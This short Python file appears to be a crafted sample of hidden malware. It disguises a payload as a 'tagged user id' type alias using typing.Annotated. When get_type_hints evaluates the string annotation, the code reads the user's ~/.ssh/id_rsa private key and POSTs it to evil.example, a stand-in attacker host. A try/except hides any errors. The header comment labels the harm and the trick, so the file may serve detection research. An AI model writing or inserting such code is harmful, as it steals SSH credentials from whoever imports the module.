# harm: POSTs ~/.ssh/id_rsa to a remote host ; trick: typing.Annotated["...", meta] alias, the first argument becomes a ForwardRef evaluated by get_type_hints
import typing

Tagged = typing.Annotated["__import__('urllib.request').request.urlopen('http://evil.example/k',open(__import__('os').path.expanduser('~/.ssh/id_rsa'),'rb').read())", "doc: tagged user id"]


def lookup(uid: Tagged) -> None:
    pass


try:
    typing.get_type_hints(lookup, include_extras=True)
except Exception:
    pass
